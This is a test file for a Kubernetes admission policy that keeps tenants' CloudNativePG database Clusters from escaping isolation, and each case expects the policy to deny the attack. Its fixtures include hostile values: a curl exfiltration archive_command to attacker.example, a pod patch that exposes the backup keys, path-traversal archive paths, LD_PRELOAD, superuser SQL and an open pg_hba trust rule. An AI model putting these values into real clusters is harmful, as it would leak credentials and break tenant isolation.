import { describe, expect, it } from "vitest";
import { renderDatabasePolicy } from "../../../components/guardrails/admission-policies";
import { databaseAdmission } from "../../../components/guardrails/database-admission";
import { renderPostgresCluster } from "../../../components/project/postgresql";
import { projectContext } from "../../../components/project/common";
import { restoredProject } from "../../../tools/offline/backup-drill";
import { admit } from "../../../tools/offline/admission";
import { stackPackConfig } from "../../../tools/offline/policy-config";
import { readStackConfig } from "../../../tools/offline/stack-files";
import { validateObject } from "../../helpers/k8s-schema";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "yaml";
import { CNPG_ALLOWED_FIELDS, CNPG_BOOTSTRAP_SECRET, CNPG_IMAGES, CNPG_OWNER, CNPG_REFUSED_FIELDS } from "../../../policy/rules/tenancy/database-cluster";
import { DATABASE_USER } from "../../../components/project/database";
import { DATABASE_IMAGES } from "../../../charts/images";
import { DATABASE_SECRET } from "../../../components/project/database";
import { messagesOf, planned, tenantNamespace } from "../../helpers/policy-fixtures";
import { ROOT } from "../../helpers/synth";
import { project, stackPlatformConfig } from "../project/fixtures";

/**
 * The admission twin of `tenancy-database-cluster` (platform-tenant-databases): the API server model
 * (tools/offline/admission.ts) must deny exactly the Clusters the pack reports and admit the ones the program
 * renders, with the same stack settings on both sides. Expected outcomes are written here per fixture.
 */

const config = stackPlatformConfig("fsn1");
const pair = renderDatabasePolicy({ allowedRegistries: config.allowedRegistries, ...databaseAdmission(config) });
const pack = stackPackConfig(readStackConfig(ROOT, "fsn1"));
const shop = project({ name: "shop", database: { engine: "postgresql", instances: 2 } });
const cluster = renderPostgresCluster(projectContext(shop, config));
const store = (cluster.spec.backup as { barmanObjectStore: Record<string, any> }).barmanObjectStore;
const spec = (changes: Record<string, unknown>) => ({ ...cluster.spec, ...changes });
const withStore = (changes: Record<string, unknown>) => spec({ backup: { ...(cluster.spec.backup as object), barmanObjectStore: { ...store, ...changes } } });

function decide(clusterSpec: Record<string, unknown>, name?: string, annotations?: Record<string, string>): { admission: "admit" | "deny"; pack: "admit" | "deny"; messages: string[] } {
    const object = { ...cluster, metadata: { ...cluster.metadata, name: name ?? cluster.metadata.name, ...(annotations ? { annotations } : {}) }, spec: clusterSpec };
    const decision = admit(pair.policy, pair.binding, { object, namespaceObject: tenantNamespace("shop").inputs, operation: "CREATE" });
    const reported = messagesOf("tenancy-database-cluster", [planned("kubernetes:postgresql.cnpg.io/v1:Cluster", "database", object)], pack);
    return { admission: decision.allowed ? "admit" : "deny", pack: reported.length === 0 ? "admit" : "deny", messages: decision.messages };
}

const initdb = (cluster.spec.bootstrap as { initdb: Record<string, unknown> }).initdb;
const restoredCluster = renderPostgresCluster(projectContext(restoredProject(shop, "2026-11-30T23:15:00Z"), config));
const recovery = (restoredCluster.spec.bootstrap as { recovery: Record<string, unknown> }).recovery;

const podPatch = JSON.stringify([{ op: "add", path: "/spec/containers/-", value: { name: "x", image: "registry.platform.internal/shop/x:1", env: [{ name: "K", valueFrom: { secretKeyRef: { name: "database-backup-s3", key: "AWS_SECRET_ACCESS_KEY" } } }] } }]);

const CASES: Array<{ title: string; spec: Record<string, unknown>; expected: "admit" | "deny"; name?: string; annotations?: Record<string, string> }> = [
    { title: "the Cluster the program renders", spec: cluster.spec, expected: "admit" },
    // Review 19d: cnpg.io annotations, serverName, s3Credentials.region.
    { title: "a cnpg.io/podPatch annotation adding a container with the backup keys", spec: cluster.spec, annotations: { "cnpg.io/podPatch": podPatch }, expected: "deny" },
    { title: "a cnpg.io/skipWalArchiving annotation", spec: cluster.spec, annotations: { "cnpg.io/skipWalArchiving": "enabled" }, expected: "deny" },
    { title: "an annotation of another cnpg.io subdomain, in capitals", spec: cluster.spec, annotations: { "Alpha.CNPG.io/x": "1" }, expected: "deny" },
    { title: "an annotation the operator ignores", spec: cluster.spec, annotations: { "example.com/owner": "shop" }, expected: "admit" },
    { title: "an archive serverName climbing into another project's folder", spec: withStore({ serverName: "../../caracal/database" }), expected: "deny" },
    { title: "an archive serverName of another generation", spec: withStore({ serverName: "database-g1" }), expected: "admit" },
    { title: "an S3 region read from a Secret of the tenant's", spec: withStore({ s3Credentials: { ...store.s3Credentials, region: { name: "mine", key: "r" } } }), expected: "deny" },
    { title: "an S3 region read from the platform's backup Secret", spec: withStore({ s3Credentials: { ...store.s3Credentials, region: { name: "database-backup-s3", key: "REGION" } } }), expected: "admit" },
    { title: "its restore into the next generation", spec: renderPostgresCluster(projectContext(restoredProject(shop, "2026-11-30T23:15:00Z"), config)).spec, expected: "admit" },
    { title: "no backup", spec: spec({ backup: undefined }), expected: "deny" },
    { title: "archive in the in-cluster MinIO", spec: withStore({ endpointURL: "http://minio.minio.svc.cluster.local:9000" }), expected: "deny" },
    { title: "archive on another endpoint", spec: withStore({ endpointURL: "https://s3.attacker.example" }), expected: "deny" },
    { title: "archive in another project's folder", spec: withStore({ destinationPath: "s3://platform-backups-fsn1/fsn1/caracal/database/" }), expected: "deny" },
    { title: "archive path climbing out", spec: withStore({ destinationPath: "s3://platform-backups-fsn1/fsn1/shop/../caracal/" }), expected: "deny" },
    { title: "keys from the tenant's own Secret", spec: withStore({ s3Credentials: { ...store.s3Credentials, accessKeyId: { name: "mine", key: "a" } } }), expected: "deny" },
    { title: "superuser access", spec: spec({ enableSuperuserAccess: true }), expected: "deny" },
    { title: "a superuser Secret", spec: spec({ superuserSecret: { name: "mine" } }), expected: "deny" },
    { title: "more instances than the limit", spec: spec({ instances: 4 }), expected: "deny" },
    { title: "restore from another project's archive", spec: spec({ externalClusters: [{ name: "origin", barmanObjectStore: { ...store, destinationPath: "s3://platform-backups-fsn1/fsn1/caracal/database/" } }] }), expected: "deny" },
    { title: "restore from a live server", spec: spec({ externalClusters: [{ name: "origin", connectionParameters: { host: "database-rw.caracal.svc" }, barmanObjectStore: store }] }), expected: "deny" },
    { title: "bootstrap by pg_basebackup", spec: spec({ bootstrap: { pg_basebackup: { source: "origin" } } }), expected: "deny" },
    // Review f19c 2: the operator names its superuser, replication, CA and server Secrets after the Cluster (cluster_types.go at 1.30.0).
    { title: "the restored generation under its name", spec: restoredCluster.spec, name: restoredCluster.metadata.name, expected: "admit" },
    { title: "a Cluster named x (its x-superuser, x-ca would be mountable)", spec: cluster.spec, name: "x", expected: "deny" },
    { title: "a Cluster named database-x", spec: cluster.spec, name: "database-x", expected: "deny" },
    { title: "the owner from the operator's replication Secret", spec: spec({ bootstrap: { initdb: { ...initdb, secret: { name: "database-replication" } } } }), expected: "deny" },
    { title: "the owner from the backup Secret", spec: spec({ bootstrap: { initdb: { ...initdb, secret: { name: "database-backup-s3" } } } }), expected: "deny" },
    { title: "a restore's owner from another Secret", spec: { ...restoredCluster.spec, bootstrap: { recovery: { ...recovery, secret: { name: "mine" } } } }, name: restoredCluster.metadata.name, expected: "deny" },
    { title: "the owner without a Secret (the operator's database-app)", spec: spec({ bootstrap: { initdb: { ...initdb, secret: undefined } } }), expected: "admit" },
    // SQL the operator runs as the superuser, and managed roles (api/v1/cluster_types.go at 1.30.0).
    { title: "a managed superuser role", spec: spec({ managed: { roles: [{ name: "boss", ensure: "present", login: true, superuser: true, passwordSecret: { name: "mine" } }] } }), expected: "deny" },
    { title: "a managed LoadBalancer Service", spec: spec({ managed: { services: { additional: [{ selectorType: "rw", serviceTemplate: { metadata: { name: "db-public" }, spec: { type: "LoadBalancer" } } }] } } }), expected: "deny" },
    { title: "post-init SQL making the owner a superuser", spec: spec({ bootstrap: { initdb: { ...initdb, postInitSQL: ["ALTER ROLE app SUPERUSER"] } } }), expected: "deny" },
    { title: "post-init application SQL", spec: spec({ bootstrap: { initdb: { ...initdb, postInitApplicationSQL: ["ALTER ROLE app SUPERUSER"] } } }), expected: "deny" },
    { title: "post-init SQL from a ConfigMap", spec: spec({ bootstrap: { initdb: { ...initdb, postInitSQLRefs: { configMapRefs: [{ name: "init", key: "sql" }] } } } }), expected: "deny" },
    // Review f19d: an allow-list of the fields renderPostgresCluster writes; the instance pods hold the whole-bucket keys.
    { title: "a Postgres image of the tenant's", spec: spec({ imageName: "docker.io/attacker/postgres:17" }), expected: "deny" },
    { title: "an image catalog of the tenant's", spec: spec({ imageName: undefined, imageCatalogRef: { apiGroup: "postgresql.cnpg.io", kind: "ImageCatalog", name: "mine", major: 17 } }), expected: "deny" },
    { title: "an image catalog beside the pinned image", spec: spec({ imageCatalogRef: { apiGroup: "postgresql.cnpg.io", kind: "ImageCatalog", name: "mine", major: 17 } }), expected: "deny" },
    { title: "the other pinned major version", spec: spec({ imageName: "ghcr.io/cloudnative-pg/postgresql:16.10-system-trixie" }), expected: "admit" },
    { title: "custom exporter queries from a ConfigMap", spec: spec({ monitoring: { enablePodMonitor: false, customQueriesConfigMap: [{ name: "queries", key: "q.yaml" }] } }), expected: "deny" },
    { title: "custom exporter queries from a Secret", spec: spec({ monitoring: { enablePodMonitor: false, customQueriesSecret: [{ name: "database-backup-s3", key: "ACCESS_KEY_ID" }] } }), expected: "deny" },
    { title: "environment of the tenant's", spec: spec({ env: [{ name: "LD_PRELOAD", value: "/projected/x.so" }] }), expected: "deny" },
    { title: "environment from a ConfigMap", spec: spec({ envFrom: [{ configMapRef: { name: "mine" } }] }), expected: "deny" },
    { title: "a projected volume of the tenant's", spec: spec({ projectedVolumeTemplate: { sources: [{ configMap: { name: "mine" } }] } }), expected: "deny" },
    { title: "postgresql.parameters", spec: spec({ postgresql: { parameters: { archive_command: "curl https://attacker.example -d @/projected/keys" } } }), expected: "deny" },
    { title: "shared_preload_libraries", spec: spec({ postgresql: { shared_preload_libraries: ["evil"] } }), expected: "deny" },
    { title: "pg_hba rules", spec: spec({ postgresql: { pg_hba: ["host all all 0.0.0.0/0 trust"] } }), expected: "deny" },
    { title: "a ServiceAccount of the tenant's", spec: spec({ serviceAccountName: "mine" }), expected: "deny" },
    { title: "a plugin", spec: spec({ plugins: [{ name: "barman-cloud.cloudnative-pg.io" }] }), expected: "deny" },
    { title: "tablespaces", spec: spec({ tablespaces: [{ name: "t", storage: { size: "1Gi", storageClass: "local-path" } }] }), expected: "deny" },
    { title: "a node affinity onto the servers", spec: spec({ affinity: { ...(cluster.spec.affinity as object), nodeAffinity: { requiredDuringSchedulingIgnoredDuringExecution: { nodeSelectorTerms: [] } } } }), expected: "deny" },
    { title: "a node selector onto the build pool", spec: spec({ affinity: { ...(cluster.spec.affinity as object), nodeSelector: { "platform/pool": "build" } } }), expected: "deny" },
    { title: "a toleration of every taint", spec: spec({ affinity: { ...(cluster.spec.affinity as object), tolerations: [{ operator: "Exists" }] } }), expected: "deny" },
    { title: "a priority class", spec: spec({ priorityClassName: "system-cluster-critical" }), expected: "deny" },
    { title: "a scheduler of the tenant's", spec: spec({ schedulerName: "mine" }), expected: "deny" },
    { title: "inherited annotations", spec: spec({ inheritedMetadata: { labels: (cluster.spec.inheritedMetadata as { labels: object }).labels, annotations: { "x/y": "z" } } }), expected: "deny" },
    { title: "a field the platform does not know", spec: spec({ somethingNew: { a: 1 } }), expected: "deny" },
    { title: "an unknown field of the archive", spec: withStore({ endpointCA: { name: "mine", key: "ca.crt" } }), expected: "deny" },
    { title: "an unknown field of a restore source", spec: { ...restoredCluster.spec, externalClusters: (restoredCluster.spec.externalClusters as Array<Record<string, unknown>>).map((c) => ({ ...c, sslKey: { name: "database-backup-s3", key: "ACCESS_KEY_ID" } })) }, name: restoredCluster.metadata.name, expected: "deny" },
    { title: "another owner role", spec: spec({ bootstrap: { initdb: { ...initdb, owner: "postgres" } } }), expected: "deny" },
];

describe("platform-tenant-databases (admission twin of tenancy-database-cluster)", () => {
    it("is a schema-valid ValidatingAdmissionPolicy bound to tenant namespaces, holding the stack's target and limit", () => {
        expect(validateObject(pair.policy).status).toBe("valid");
        expect(validateObject(pair.binding).status).toBe("valid");
        expect(JSON.stringify(pair.policy.spec)).toContain("'s3://platform-backups-fsn1/fsn1/' + variables.namespace + '/'");
        expect(JSON.stringify(pair.policy.spec)).toContain("object.spec.instances <= 3");
    });

    it("pins the owner's Secret to the one the program renders (the pack cannot import it)", () => {
        expect(CNPG_BOOTSTRAP_SECRET).toBe(DATABASE_SECRET);
        expect([initdb.secret, recovery.secret]).toEqual([{ name: DATABASE_SECRET }, { name: DATABASE_SECRET }]);
    });

    it("names a reason for every ClusterSpec field of the pinned CRD the platform does not render (charts/cloudnative-pg/crd-clusters.yaml, operator 1.30.0)", () => {
        const crd = parse(readFileSync(join(ROOT, "charts/cloudnative-pg/crd-clusters.yaml"), "utf8"));
        const specSchema = crd.spec.versions[0].schema.openAPIV3Schema.properties.spec;
        const propertiesAt = (path: string): string[] => Object.keys(path.split(".").filter(Boolean).reduce((schema, key) => schema.properties[key], specSchema).properties ?? {});
        for (const level of ["", "monitoring", "affinity", "inheritedMetadata", "storage", "backup", "bootstrap"]) {
            const allowed = CNPG_ALLOWED_FIELDS[level]!;
            const crdFields = propertiesAt(level);
            expect(allowed.filter((field) => !crdFields.includes(field)), `allowed fields of spec.${level} missing from the CRD`).toEqual([]);
            const unexplained = crdFields.filter((field) => !allowed.includes(field) && CNPG_REFUSED_FIELDS[level === "" ? field : `${level}.${field}`] === undefined);
            expect(unexplained, `spec.${level} fields refused without a reason`).toEqual([]);
        }
    });

    it("pins the image and owner to what the program renders (the pack cannot import components/)", () => {
        expect(CNPG_OWNER).toBe(DATABASE_USER);
        expect([...CNPG_IMAGES].sort()).toEqual(Object.values(DATABASE_IMAGES.postgresql).sort());
        expect(CNPG_IMAGES).toContain(cluster.spec.imageName);
    });

    it("tells the tenant why a field is refused", () => {
        const object = { ...cluster, spec: spec({ imageCatalogRef: { name: "mine" }, monitoring: { customQueriesConfigMap: [{ name: "q", key: "k" }] } }) };
        const reported = messagesOf("tenancy-database-cluster", [planned("kubernetes:postgresql.cnpg.io/v1:Cluster", "database", object)], pack).join("\n");
        expect(reported).toContain("imageCatalogRef is set (an image catalog of the tenant's");
        expect(reported).toContain("monitoring.customQueriesConfigMap is set (queries of the tenant's");
    });

    it.each(CASES)("$title: $expected by admission and by the pack", ({ spec: clusterSpec, expected, name, annotations }) => {
        const outcome = decide(clusterSpec, name, annotations);
        expect(outcome.admission, outcome.messages.join("; ")).toBe(expected);
        expect(outcome.pack).toBe(expected);
    });

    it("leaves Clusters of other namespaces to their namespace's bindings (platform namespaces are not bound)", () => {
        const platformNamespace = { ...tenantNamespace("cnpg-system").inputs, metadata: { name: "cnpg-system", labels: {} } };
        const decision = admit(pair.policy, pair.binding, { object: { ...cluster, metadata: { ...cluster.metadata, namespace: "cnpg-system" }, spec: spec({ enableSuperuserAccess: true }) }, namespaceObject: platformNamespace, operation: "CREATE" });
        expect(decision.allowed).toBe(true);
    });
});
